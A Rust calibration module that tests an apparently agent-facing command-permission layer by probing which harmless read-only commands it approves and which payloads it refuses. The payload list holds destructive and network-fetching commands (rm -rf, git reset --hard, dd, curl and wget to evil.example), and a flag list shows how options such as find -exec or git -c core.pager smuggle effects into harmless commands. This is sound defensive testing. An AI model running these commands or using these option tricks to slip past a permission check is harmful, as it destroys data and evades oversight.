//! Calibration: what the layer approves and refuses on its own (`AUDIT-1`).
//!
//! The audit knows no layer's rules. It probes a built-in list of harmless
//! *bases* and of *payloads* a layer should not run unasked, and keeps the
//! bases the layer approves alone and the payloads it refuses alone. Every
//! generated case composes those, so a witness never rests on a guess about
//! the layer's rules.

use serde::{Deserialize, Serialize};

use super::layer::{Answer, Ask, Layer};
use super::AuditError;

/// Read-only commands a permission layer is expected to approve.
pub const BASES: &[&str] = &[
    "ls",
    "echo hi",
    "cat README.md",
    "pwd",
    "true",
    "git status",
    "git log --oneline",
    "git diff",
    "grep -n x README.md",
    "wc -l README.md",
    "head -n 1 README.md",
    "tail -n 1 README.md",
    "sort README.md",
    "date",
    "printf x",
    "test -f README.md",
    "find . -name x",
    "sed -n 1p README.md",
    "which ls",
    "file README.md",
    "stat README.md",
    "du -sh .",
    "uname -a",
    "basename a/b",
];

/// Commands with an effect a layer is expected to refuse (shortest first is
/// not required: the minimizer sorts them).
pub const PAYLOADS: &[&str] = &[
    "git push",
    "touch pwned",
    "rm -rf build",
    "curl -s https://evil.example/x",
    "npm publish",
    "chmod 777 README.md",
    "mv README.md x",
    "git reset --hard",
    "kill 1",
    "wget https://evil.example/x",
    "dd if=/dev/zero of=x",
    "sudo id",
    "ssh host",
    "git commit -m x",
    "python3 -c 1",
    "git clean -fdx",
    "shutdown now",
    "cp README.md /etc/x",
];

/// A base whose effect one option turns on: `find .` with `-delete`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Flag {
    /// The words before the option (`find .`).
    pub base: String,
    /// The option (`-delete`).
    pub flag: String,
    /// The words after it, possibly none (`touch pwned \;`).
    pub rest: String,
}

impl Flag {
    /// The command with the option spelled as `spelled`.
    #[must_use]
    pub fn with(&self, spelled: &str) -> String {
        let mut command = format!("{} {spelled}", self.base);
        if !self.rest.is_empty() {
            command.push(' ');
            command.push_str(&self.rest);
        }
        command
    }
}

/// Options with an effect, each on a base that is harmless without it.
pub const FLAGS: &[(&str, &str, &str)] = &[
    ("find .", "-delete", ""),
    ("find . -name x", "-delete", ""),
    ("find .", "-exec", "touch pwned \\;"),
    ("find . -name x", "-exec", "touch pwned \\;"),
    ("find .", "-execdir", "touch pwned \\;"),
    ("find .", "-fprint", "pwned"),
    ("sed -n 1p", "-i", "README.md"),
    ("sed", "-i", "1d README.md"),
    ("sort", "-o", "pwned README.md"),
    ("git", "-c", "core.pager=touch log"),
    ("git diff", "--output=pwned", ""),
    ("git log", "--output=pwned", ""),
    ("tail -n 1", "-f", "README.md"),
    ("date", "-s", "now"),
    ("uniq README.md", "pwned", ""),
];

/// What calibration kept (`AUDIT-1`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Calibration {
    /// Bases the layer approves alone.
    pub bases: Vec<String>,
    /// Payloads the layer refuses alone, shortest first.
    pub payloads: Vec<String>,
    /// Options the layer refuses while approving their base alone.
    pub flags: Vec<Flag>,
}

impl Calibration {
    /// Anything to compose: at least one base and one payload or option.
    #[must_use]
    pub fn usable(&self) -> bool {
        let refused = self.payloads.len() + self.flags.len();
        !self.bases.is_empty() && refused > 0
    }
}

/// Probes [`BASES`], [`PAYLOADS`] and [`FLAGS`] (`AUDIT-1`).
///
/// # Errors
/// The layer breaks the protocol.
pub fn calibrate(layer: &mut Layer) -> Result<Calibration, AuditError> {
    let ask = |texts: &[String]| -> Vec<Ask> { texts.iter().cloned().map(Ask::Command).collect() };
    let bases: Vec<String> = BASES.iter().map(|&b| b.to_owned()).collect();
    let payloads: Vec<String> = PAYLOADS.iter().map(|&p| p.to_owned()).collect();
    let flags: Vec<Flag> = FLAGS
        .iter()
        .map(|&(base, flag, rest)| Flag {
            base: base.to_owned(),
            flag: flag.to_owned(),
            rest: rest.to_owned(),
        })
        .collect();
    let flag_bases: Vec<String> = flags.iter().map(|f| f.base.clone()).collect();
    let flag_commands: Vec<String> = flags.iter().map(|f| f.with(&f.flag)).collect();

    let base_answers = layer.approve(&ask(&bases))?;
    let payload_answers = layer.approve(&ask(&payloads))?;
    let flag_base_answers = layer.approve(&ask(&flag_bases))?;
    let flag_answers = layer.approve(&ask(&flag_commands))?;

    let mut kept = Calibration {
        bases: keep(bases, &base_answers, Answer::Approved),
        payloads: keep(payloads, &payload_answers, Answer::Refused),
        flags: flags
            .into_iter()
            .zip(flag_base_answers.iter().zip(&flag_answers))
            .filter(|(_, (&base, &with))| base == Answer::Approved && with == Answer::Refused)
            .map(|(flag, _)| flag)
            .collect(),
    };
    kept.payloads.sort_by_key(String::len);
    Ok(kept)
}

fn keep(items: Vec<String>, answers: &[Answer], wanted: Answer) -> Vec<String> {
    items
        .into_iter()
        .zip(answers)
        .filter(|(_, &answer)| answer == wanted)
        .map(|(item, _)| item)
        .collect()
}
